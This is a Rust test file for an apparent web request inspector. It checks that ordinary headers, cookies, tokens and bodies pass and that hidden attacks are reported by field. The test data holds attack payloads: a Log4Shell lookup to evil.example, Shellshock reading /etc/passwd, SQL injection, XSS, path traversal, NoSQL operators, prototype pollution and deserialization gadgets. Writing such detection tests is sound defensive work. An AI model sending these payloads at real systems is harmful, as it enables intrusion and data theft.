//! Requests: what browsers and programs send in headers, cookies, forms, files and tokens passes;
//! what hides there is found, with the name of the field.

use guard_inspect::{
    Answer, Decision, HttpDecision, HttpRequest, Inspector, Reason, Scratch, Unread,
};
use guard_settings::{Rate, RateKey, Settings, Validate};
use payload::{Class, Classes};
use serde_json::{Value, json};

use crate::base64_of::base64;

/// The field in which something is found, if anything is.
fn found(settings: &Settings, event: &Value) -> Option<String> {
    let inspector = Inspector::new(settings).unwrap();
    let judgement = inspector.event(&mut Scratch::default(), event.to_string().as_bytes(), "r-1");
    assert_eq!(judgement.decision == Decision::Pass, judgement.hits.is_empty());
    judgement.hits.first().map(|hit| hit.field.clone())
}

fn with_headers(headers: &Value) -> Option<String> {
    found(
        &Settings::default(),
        &json!({"httpMethod": "GET", "path": "/", "headers": headers, "requestContext": {"httpMethod": "GET"}}),
    )
}

fn with_body(content_type: &str, body: &str, is_base64: bool) -> Option<String> {
    found(
        &Settings::default(),
        &json!({"httpMethod": "POST", "path": "/", "headers": {"Content-Type": content_type}, "body": body, "isBase64Encoded": is_base64,
            "requestContext": {"httpMethod": "POST"}}),
    )
}

#[test]
fn what_clients_send_in_headers_passes() {
    let token = format!(
        "{}.{}.c2ln",
        base64(br#"{"alg":"RS256","kid":"k-1"}"#),
        base64(br#"{"sub":"u-1","name":"Ana O'Neill"}"#)
    );
    for (name, value) in [
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        ),
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        ),
        (
            "user-agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
        ),
        (
            "user-agent",
            "aws-sdk-js/3.6 os/linux#5.10 lang/js md/nodejs#22.1.0 api/dynamodb#3.6 exec-env/AWS_Lambda_nodejs22.x",
        ),
        ("sec-ch-ua", "\"Chromium\";v=\"142\", \"Not_A Brand\";v=\"99\""),
        ("if-none-match", "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
        ("cache-control", "no-cache, max-age=0"),
        ("accept-language", "de-AT,de;q=0.9,en;q=0.8"),
        ("referer", "http://localhost:3000/orders?page=2&sort=-date"),
        ("origin", "http://127.0.0.1:3000"),
        ("host", "localhost:3000"),
        ("x-forwarded-for", "127.0.0.1, 10.0.0.7, 192.0.2.10"),
        ("via", "1.1 vegur, 2.0 a1b2.cloudfront.net (CloudFront)"),
        ("authorization", &format!("Bearer {token}")),
        ("authorization", &format!("Basic {}", base64(b"ana:correct horse; battery & staple!"))),
        (
            "authorization",
            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260312/eu-west-1/execute-api/aws4_request, SignedHeaders=host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        ),
        (
            "cookie",
            "session=eyJhIjoxfQ; _ga=GA1.2.1030454547.1726000000; prefs=%7B%22theme%22%3A%22dark%22%7D; empty=; flag",
        ),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("range", "bytes=0-1023"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        (
            "x-amzn-trace-id",
            "Root=1-5bdb40ca-556d8b0c50dc66f0511bf520;Parent=53995c3f42cd8ad8;Sampled=1",
        ),
    ] {
        assert_eq!(with_headers(&json!({name: value})), None, "{name}: {value}");
    }
}

#[test]
fn what_hides_in_headers_is_found() {
    let claims = base64(br#"{"sub":"1' OR 1=1--"}"#);
    let kid = base64(br#"{"alg":"HS256","kid":"../../../../etc/passwd"}"#);
    for (name, value, field) in [
        ("User-Agent", "${jndi:ldap://evil.example/a}".to_owned(), "headers.User-Agent"),
        ("User-Agent", "() { :;}; /bin/cat /etc/passwd".to_owned(), "headers.User-Agent"),
        ("X-Id", "1' OR 1=1--".to_owned(), "headers.X-Id"),
        ("Cookie", "theme=dark; id=1'%20OR%201=1--".to_owned(), "headers.Cookie.id"),
        ("Referer", "http://a.example/?q=<script>alert(1)</script>".to_owned(), "headers.Referer"),
        ("Authorization", format!("Bearer e30.{claims}.x"), "headers.Authorization.sub"),
        (
            "Authorization",
            format!("Bearer {}.{claims}.x", base64(b"{\"alg\":\"none\"}")),
            "headers.Authorization.sub",
        ),
        ("Authorization", format!("Bearer {kid}.{}.x", base64(b"{}")), "headers.Authorization.kid"),
        (
            "Authorization",
            format!("Basic {}", base64(b"admin' OR 1=1--:x")),
            "headers.Authorization",
        ),
    ] {
        assert_eq!(with_headers(&json!({name: value})).as_deref(), Some(field), "{name}: {value}");
    }
}

#[test]
fn bodies_are_read_by_their_type() {
    let form = "application/x-www-form-urlencoded";
    assert_eq!(with_body(form, "a=b&note=1%27+OR+1%3D1--", false).as_deref(), Some("body.note"));
    assert_eq!(with_body(form, "a=b&user%5B%24ne%5D=1", false).as_deref(), Some("body.user_$ne_"));
    assert_eq!(with_body(form, "name=O%27Neill+%26+Sons&a=1&b=%E2%82%AC", false), None);
    let multipart = |name: &str, filename: &str, content: &[u8]| {
        let head = format!(
            "--b\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\n\r\n"
        );
        base64(&[head.as_bytes(), content, b"\r\n--b--\r\n"].concat())
    };
    let kind = "multipart/form-data; boundary=\"b\"";
    assert_eq!(
        with_body(kind, &multipart("cv", "cv (final).pdf", &[0xff, 0xd8, b'\'', 0x00]), true),
        None
    );
    assert_eq!(
        with_body(kind, &multipart("cv", "../../etc/cron.d/x", b"x"), true).as_deref(),
        Some("body.cv.filename")
    );
    assert_eq!(
        with_body(kind, &multipart("cv", "a.txt", b"1' OR 1=1--"), true).as_deref(),
        Some("body.cv")
    );
    assert_eq!(with_body("image/png", &base64(b"\x89PNG\r\n\x1a\n' OR 1=1--\xff"), true), None);
    assert_eq!(
        with_body("text/plain", &base64(b"\xff 1' OR 1=1--"), true).as_deref(),
        Some("body")
    );
    assert_eq!(
        with_body("application/json", r#"{"q": {"$where": "sleep(1000)"}}"#, false).as_deref(),
        Some("body.q.$where")
    );
    assert_eq!(
        with_body("application/json", r#"{"__proto__": {"admin": true}}"#, false).as_deref(),
        Some("body.__proto__")
    );
    assert_eq!(
        with_body("application/json", r#"{"constructor": {"prototype": {"a": 1}}}"#, false)
            .as_deref(),
        Some("body.constructor.prototype")
    );
    assert_eq!(
        with_body("application/json", r#"{"constructor": "Ana", "prototype": {"a": 1}}"#, false),
        None
    );
    // Of two members with one name both are looked at: parsers differ in which one they take.
    assert_eq!(
        with_body("application/json", r#"{"id": "1' OR 1=1--", "id": "1"}"#, false).as_deref(),
        Some("body.id")
    );
    assert_eq!(
        with_body("application/json", r#"{"id": "\u0031' OR \u0031=1--"}"#, false).as_deref(),
        Some("body.id")
    );
    assert_eq!(
        with_body(
            "application/json",
            r#"{"query": "query($id: ID!) { order(id: $id) { id lines { sku } } }", "variables": {"id": "o-17"}}"#,
            false
        ),
        None
    );
}

#[test]
fn fields_of_the_settings_hold_in_every_place_of_the_same_field() {
    let mut settings = Settings::default();
    settings.inspect.default_classes = Some(Classes::NONE);
    let sql = Classes::NONE.with(Class::Sql);
    settings.inspect.fields.insert("queryStringParameters.id".parse().unwrap(), sql);
    settings.inspect.fields.insert("headers.X-Id".parse().unwrap(), sql);
    settings.inspect.fields.insert("body.filter".parse().unwrap(), sql);
    settings.inspect.fields.insert("body.filter.free".parse().unwrap(), Classes::NONE);
    let bad = "1' OR 1=1--";
    let context = json!({"http": {"method": "GET"}});
    for (event, field) in [
        (
            json!({"queryStringParameters": {"id": bad}, "requestContext": context}),
            Some("queryStringParameters.id"),
        ),
        (json!({"queryStringParameters": {"other": bad}, "requestContext": context}), None),
        (
            json!({"rawQueryString": "a=b&id=1%27%20OR%201%3D1--", "requestContext": context}),
            Some("rawQueryString.id"),
        ),
        (
            json!({"httpMethod": "GET", "multiValueQueryStringParameters": {"id": ["1", bad]}, "requestContext": {}}),
            Some("multiValueQueryStringParameters.id[1]"),
        ),
        (json!({"headers": {"x-id": bad}, "requestContext": context}), Some("headers.x-id")),
        (
            json!({"body": json!({"filter": {"any": [bad]}}).to_string(), "requestContext": context}),
            Some("body.filter.any[0]"),
        ),
        (
            json!({"body": json!({"filter": {"free": bad}}).to_string(), "requestContext": context}),
            None,
        ),
    ] {
        assert_eq!(found(&settings, &event).as_deref(), field, "{event}");
    }
}

#[test]
fn what_a_caller_wrote_is_looked_at_wherever_the_platform_copies_it() {
    let settings = Settings::default();
    // Letters that an id may have, too.
    let bad = "1 OR 1=1--";
    for (event, field) in [
        (
            json!({"requestContext": {"http": {"method": "GET", "userAgent": bad}}}),
            "requestContext.http.userAgent",
        ),
        (
            json!({"httpMethod": "GET", "resource": "/", "requestContext": {"identity": {"userAgent": bad}}}),
            "requestContext.identity.userAgent",
        ),
        (json!({"detail-type": bad, "source": "a", "detail": {}}), "detail-type"),
        // A query or cookie without a name.
        (
            json!({"rawQueryString": "1%20OR%201=1--", "requestContext": {"http": {"method": "GET"}}}),
            "rawQueryString.1_OR_1",
        ),
        (
            json!({"cookies": ["a=b", bad], "requestContext": {"http": {"method": "GET"}}}),
            "cookies[1].1_OR_1",
        ),
    ] {
        assert_eq!(found(&settings, &event).as_deref(), Some(field), "{event}");
    }
    for query in ["filter[name]=a%20b", "%24filter=a%20eq%201", "a%20b=c", "x-amz-date:x=1"] {
        let event = json!({"rawQueryString": query, "requestContext": {"http": {"method": "GET"}}});
        assert_eq!(found(&settings, &event), None, "{query}");
    }
}

#[test]
fn the_sink_of_a_field_makes_it_sharper_and_leaves_the_other_classes() {
    let mut settings = Settings::default();
    let path = Classes::NONE.with(Class::Path);
    settings.inspect.fields.insert("body.fileName".parse().unwrap(), path);
    settings.inspect.fields.insert("body.note".parse().unwrap(), Classes::NONE);
    let field = |name: &str, value: &str| {
        let body = json!({name: value}).to_string();
        found(&settings, &json!({"body": body, "requestContext": {"http": {"method": "POST"}}}))
    };
    let script = "<script>alert(1)</script>";
    assert_eq!(field("fileName", script).as_deref(), Some("body.fileName"));
    // One step up is no attack in prose, and one where a file is opened. Letter case is the code's:
    // what reads `fileName` may well take `filename`.
    let step = "../images/a.png";
    assert_eq!(field("title", step), None);
    assert_eq!(field("fileName", step).as_deref(), Some("body.fileName"));
    assert_eq!(field("filename", step).as_deref(), Some("body.filename"));
    assert_eq!(field("note", script), None);
}

#[test]
fn limits_are_answered_with_their_status() {
    let status = |event: &Value, settings: &Settings| {
        let inspector = Inspector::new(settings).unwrap();
        let judgement =
            inspector.event(&mut Scratch::default(), event.to_string().as_bytes(), "r-1");
        judgement.hits.first().map(|hit| hit.reason.status().0)
    };
    let validate = Validate { max_bytes: 300, max_depth: 8, ..Validate::default() };
    let settings = Settings { validate, ..Settings::default() };
    let event = |body: String| json!({"requestContext": {"http": {}}, "body": body});
    assert_eq!(status(&event("a".repeat(100)), &settings), None);
    assert_eq!(status(&event("a".repeat(400)), &settings), Some(413));
    assert_eq!(status(&event("[".repeat(9) + &"]".repeat(9)), &settings), Some(400));
    assert_eq!(status(&event("[".repeat(8) + &"]".repeat(8)), &settings), None);
    let mut deep = json!("x");
    for _ in 0..8 {
        deep = json!([deep]);
    }
    assert_eq!(status(&json!({"requestContext": {"http": {}}, "a": deep}), &settings), Some(400));
    // Texts within texts within texts end, too.
    let mut nested = json!("1' OR 1=1--");
    for _ in 0..7 {
        nested = json!(json!([nested]).to_string());
    }
    assert_eq!(
        status(&json!({"body": nested, "requestContext": {"http": {}}}), &Settings::default()),
        Some(403)
    );
}

#[test]
fn depth_that_the_stack_could_not_hold_is_refused() {
    let validate = Validate { max_depth: u32::MAX, ..Validate::default() };
    let settings = Settings { validate, ..Settings::default() };
    let inspector = Inspector::new(&settings).unwrap();
    let mut text = "1".to_owned();
    for _ in 0..6 {
        let inside = Value::from(text).to_string();
        text = format!("{}{inside}{}", "[".repeat(250), "]".repeat(250));
    }
    for event in [text, "[".repeat(1_000_000), "{\"a\":".repeat(400) + "1" + &"}".repeat(400)] {
        let judgement = inspector.event(&mut Scratch::default(), event.as_bytes(), "r-1");
        assert_eq!(judgement.hits[0].reason, Reason::TooDeep);
    }
}

#[test]
fn a_front_judges_the_same_request() {
    let inspector = Inspector::new(&Settings::default()).unwrap();
    let check = |target: &str, headers: &[(&str, &[u8])], body: &[u8]| {
        let request = HttpRequest { method: "POST", target, headers, body };
        let judgement = inspector.http_request(&mut Scratch::default(), &request, "r-7");
        match judgement.decision {
            HttpDecision::Pass => None,
            HttpDecision::Answer(answer) => {
                let body: Value = serde_json::from_slice(&answer.body).unwrap();
                assert_eq!(body, json!({"message": "Forbidden", "requestId": "r-7"}));
                assert_eq!((answer.status, answer.phrase), (403, "Forbidden"));
                Some(judgement.hits[0].field.clone())
            }
        }
    };
    let json_type: &[(&str, &[u8])] =
        &[("Content-Type", b"application/json"), ("Host", b"localhost:8080")];
    assert_eq!(
        check("/orders?status=open&sort=-date", json_type, b"{\"name\": \"O'Neill\"}"),
        None
    );
    assert_eq!(
        check("/orders?id=1%27%20OR%201%3D1--", json_type, b"").as_deref(),
        Some("queryStringParameters.id")
    );
    assert_eq!(check("/..%2f..%2f..%2fetc/passwd", json_type, b"").as_deref(), Some("rawPath"));
    assert_eq!(
        check("/", json_type, b"{\"userId\": \"1 OR 1=1--\"}").as_deref(),
        Some("body.userId")
    );
    assert_eq!(check("/", &[("X-Id", b"1' OR 1=1--")], b"").as_deref(), Some("headers.X-Id"));
    assert_eq!(inspector.http_too_many("r").status, 429);
}

#[test]
fn names_that_say_what_to_build_are_found() {
    for (body, field) in [
        (json!({"job": {"py/object": "os.system"}}), Some("body.job.py/object")),
        (json!({"a": {"json_class": "Gem::Installer"}}), Some("body.a.json_class")),
        (json!({"py/objects.py": "modified", "jsonClass": "Invoice"}), None),
    ] {
        let found = with_body("application/json", &body.to_string(), false);
        assert_eq!(found.as_deref(), field);
    }
}

#[test]
fn a_body_in_a_content_coding_is_never_clean_unread() {
    use flate2::{Compression, write};
    use std::io::Write;

    let inspector = Inspector::new(&Settings::default()).unwrap();
    let packed = |text: &str| {
        let mut gzip = write::GzEncoder::new(Vec::new(), Compression::default());
        let mut zlib = write::ZlibEncoder::new(Vec::new(), Compression::default());
        let mut bare = write::DeflateEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(text.as_bytes()).unwrap();
        zlib.write_all(text.as_bytes()).unwrap();
        bare.write_all(text.as_bytes()).unwrap();
        let (gzip, zlib) = (gzip.finish().unwrap(), zlib.finish().unwrap());
        [("gzip", gzip), ("deflate", zlib), ("deflate", bare.finish().unwrap())]
    };
    let check = |coding: &str, kind: &str, body: &[u8]| {
        let headers: &[(&str, &[u8])] =
            &[("Content-Type", kind.as_bytes()), ("Content-Encoding", coding.as_bytes())];
        let request = HttpRequest { method: "POST", target: "/", headers, body };
        let front = inspector.http_request(&mut Scratch::default(), &request, "r-7");
        let event = json!({"httpMethod": "POST", "path": "/", "isBase64Encoded": true,
            "multiValueHeaders": {"content-type": [kind], "content-encoding": [coding]},
            "body": base64(body), "requestContext": {"httpMethod": "POST"}});
        let scratch = &mut Scratch::default();
        let event = inspector.event(scratch, event.to_string().as_bytes(), "r-7");
        assert_eq!(front.hits, event.hits, "{coding} {kind}");
        let status = |reason: Reason| reason.status().0;
        event.hits.first().map(|hit| (hit.field.clone(), status(hit.reason)))
    };
    let found = |field: &str| Some((field.to_owned(), 403));
    let unread = Some(("body".to_owned(), 415));
    for (coding, body) in packed("a=1&id=1' OR 1=1--") {
        assert_eq!(check(coding, "application/x-www-form-urlencoded", &body), found("body.id"));
    }
    for (coding, body) in packed("{\"id\": \"1' OR 1=1--\"}") {
        assert_eq!(check(coding, "application/json", &body), found("body.id"));
        let followed = [body.as_slice(), b"\0more"].concat();
        assert_eq!(check(coding, "application/json", &followed), found("body.id"));
    }
    for (coding, body) in packed("{\"name\": \"O'Neill\"}") {
        assert_eq!(check(coding, "application/json", &body), None);
        assert_eq!(check("br", "application/json", &body), unread);
        assert_eq!(check("of our own", "application/json", &body), unread);
        let broken = &body[..body.len() / 2];
        let found = check(coding, "application/json", broken);
        assert_eq!(found, Some(("body".to_owned(), 400)));
    }
    // A platform took the coding off and left the header, or the handler knows none.
    let plain = b"{\"id\": \"1' OR 1=1--\"}";
    for coding in ["gzip", "deflate", "br", "zstd, br", "identity"] {
        assert_eq!(check(coding, "application/json", plain), found("body.id"), "{coding}");
    }
    assert_eq!(check("gzip", "application/json", b"{\"id\": 1}"), None);
    assert_eq!(check("of our own", "application/json", b"{\"id\": 1}"), None);
    assert_eq!(check("br", "application/json", b"\x0b\x05\x80{}"), unread);
}

#[test]
fn what_cannot_be_looked_at_passes_where_the_settings_say_so_and_is_told() {
    let mut settings = Settings::default();
    let event = |coding: &str| {
        json!({"version": "2.0", "headers": {"content-encoding": coding}, "isBase64Encoded": true,
            "body": base64(b"\x0b\x05\x80{}"), "requestContext": {"http": {"method": "POST"}}})
        .to_string()
    };
    let judge = |settings: &Settings, event: &str| {
        let inspector = Inspector::new(settings).unwrap();
        inspector.event(&mut Scratch::default(), event.as_bytes(), "r-1")
    };
    let kind = |settings: &Settings, hit: &guard_inspect::Hit| {
        let line = hit.security_event("f", None, settings.mode).to_line();
        serde_json::from_str::<Value>(&line).unwrap()["kind"].as_str().unwrap().to_owned()
    };
    let judgement = judge(&settings, &event("br"));
    let Decision::Answer(Answer::Response { body }) = &judgement.decision else { panic!() };
    let answer: Value = serde_json::from_slice(body).unwrap();
    assert_eq!(answer["statusCode"], 415);
    assert_eq!(answer["headers"]["accept-encoding"], "gzip, deflate");
    assert_eq!(kind(&settings, &judgement.hits[0]), "event-blocked");

    settings.inspect.uninspected = guard_settings::Uninspected::Pass;
    let judgement = judge(&settings, &event("br"));
    assert_eq!(judgement.decision, Decision::Pass);
    assert_eq!(judgement.hits[0].reason, Reason::Uninspected(Unread::Coding));
    assert_eq!(kind(&settings, &judgement.hits[0]), "uninspected");

    settings.mode = guard_settings::Mode::Monitor;
    let judgement = judge(&settings, &event("br"));
    assert_eq!(judgement.decision, Decision::Pass);
    assert_eq!(kind(&settings, &judgement.hits[0]), "uninspected");
}

#[test]
fn callers_are_told_apart_as_the_settings_want() {
    let caller = |key: RateKey, event: &Value| {
        let rate = Some(Rate { key, ..Rate::default() });
        let inspector = Inspector::new(&Settings { rate, ..Settings::default() }).unwrap();
        inspector.event(&mut Scratch::default(), event.to_string().as_bytes(), "r-1").caller
    };
    let rest = json!({"httpMethod": "GET", "requestContext": {"identity": {"sourceIp": "192.0.2.1", "apiKey": "k"}, "authorizer": {"principalId": "ana"}}});
    let http = json!({"headers": {"X-Api-Key": "k2"}, "requestContext": {"http": {"sourceIp": "192.0.2.2"}, "authorizer": {"jwt": {"claims": {"sub": "bo"}}}}});
    let alb = json!({"headers": {"x-forwarded-for": "10.9.9.9, 192.0.2.3"}, "requestContext": {"elb": {}}});
    assert_eq!(caller(RateKey::Ip, &rest).as_deref(), Some("192.0.2.1"));
    assert_eq!(caller(RateKey::ApiKey, &rest).as_deref(), Some("k"));
    assert_eq!(caller(RateKey::Principal, &rest).as_deref(), Some("ana"));
    assert_eq!(caller(RateKey::Ip, &http).as_deref(), Some("192.0.2.2"));
    assert_eq!(caller(RateKey::ApiKey, &http).as_deref(), Some("k2"));
    assert_eq!(caller(RateKey::Principal, &http).as_deref(), Some("bo"));
    assert_eq!(caller(RateKey::Ip, &alb).as_deref(), Some("192.0.2.3"));
    assert_eq!(caller(RateKey::Ip, &json!({"a": 1})), None);
}

#[test]
fn a_log_line_tells_the_field_and_never_the_value() {
    let inspector = Inspector::new(&Settings::default()).unwrap();
    let event = br#"{"userId": "1 OR 1=1--"}"#;
    let judgement = inspector.event(&mut Scratch::default(), event, "r-1");
    let hit = &judgement.hits[0];
    assert!(matches!(hit.reason, Reason::Attack { class: Class::Sql, .. }));
    let line = hit.security_event("Orders", Some("r-1"), guard_settings::Mode::Block).to_line();
    let line: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(
        (&line["kind"], &line["class"], &line["field"]),
        (&json!("event-blocked"), &json!("sql"), &json!("userId"))
    );
    assert!(!line.to_string().contains("1=1"));
}
